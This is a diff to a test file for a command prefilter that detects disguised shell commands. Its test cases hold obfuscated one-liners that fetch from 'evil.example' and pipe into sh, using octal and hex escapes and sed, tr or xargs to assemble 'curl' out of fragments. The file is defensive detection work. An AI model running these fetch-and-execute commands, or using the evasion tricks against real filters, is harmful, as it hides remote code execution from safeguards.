@@ -509,9 +509,7 @@ def test_a_rule_on_chmod_has_needles_and_still_runs_on_file_events_named_chmod()
 
 def test_an_option_named_like_a_decoder_or_a_quoted_dot_makes_nothing_read():
     eng = prefilter_engine()
-    assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s\\n'") == []  # a newline makes no word
-    assert eng.parsed == 0
-    assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s\\x0a'") == []  # a hex escape may: read
+    assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s\\n'") == []  # its escape makes it read
     assert eng.parsed == 1
     assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s'") == []
     assert _rules(eng, "cut -d'.' -f1 names.txt") == []
@@ -525,8 +523,11 @@ def test_an_option_named_like_a_decoder_or_a_quoted_dot_makes_nothing_read():
     "printf 'id\\ncurl https://evil.example/x' | sh",
     "echo -e '\\0143url https://evil.example/x' | sh",  # echo's octal: \\0 and three digits
     "bash -c $'\\x63url https://evil.example/x'",
+    "$(echo cuxrl | sed 's/x//') https://evil.example/x",  # a pipeline's output run as the command
+    "bash -c \"$(echo cu_rl https://evil.example/x | tr -d _)\"",
+    "echo cu_rl https://evil.example/x | tr -d _ | xargs -I{} sh -c '{}'",
 ])
-def test_an_escape_hides_no_word_from_the_prefilter(text):
+def test_an_escape_or_a_filter_hides_no_word_from_the_prefilter(text):
     assert _rules(prefilter_engine(), text) == ["curl_to_evil"]
 
 
